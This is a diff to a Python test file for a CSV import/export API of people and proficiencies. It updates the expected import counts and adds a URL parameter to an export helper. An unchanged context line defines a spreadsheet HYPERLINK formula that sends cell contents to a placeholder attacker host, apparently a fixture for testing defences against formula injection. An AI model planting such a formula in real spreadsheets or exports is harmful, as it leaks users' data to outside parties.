@@ -21,8 +21,8 @@ IMPORT = "/api/v1/import"
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
 
 
-def export_text(client: FlaskClient, actor: Actor) -> str:
-    response = client.get(EXPORT, headers=actor.headers)
+def export_text(client: FlaskClient, actor: Actor, url: str = EXPORT) -> str:
+    response = client.get(url, headers=actor.headers)
     try:
         assert response.status_code == 200
         return response.get_data(as_text=True)
@@ -197,7 +197,11 @@ def test_long_layout_import_creates_people_and_proficiencies(
     assert response.json == {
         "people_created": 2,
         "people_updated": 0,
+        "people_unchanged": 0,
         "proficiencies_set": 2,
+        "proficiencies_unchanged": 0,
+        "verifications_cleared": 0,
+        "cleared_verifications": [],
         "lines": 2,
     }
     ada = person_by_email(client, admin, "ada@example.org")
@@ -336,8 +340,13 @@ def test_reimporting_an_export_changes_nothing(
     before = export_text(client, admin)
     response = post_csv(client, admin, before)
     assert response.status_code == 200
-    assert data(response)["people_created"] == 0
-    assert data(response)["people_updated"] == 3
+    counts = data(response)
+    assert (counts["people_created"], counts["people_updated"], counts["people_unchanged"]) == (
+        0,
+        0,
+        3,
+    )
+    assert (counts["proficiencies_set"], counts["proficiencies_unchanged"]) == (0, 3)
     assert export_text(client, admin) == before
 
 
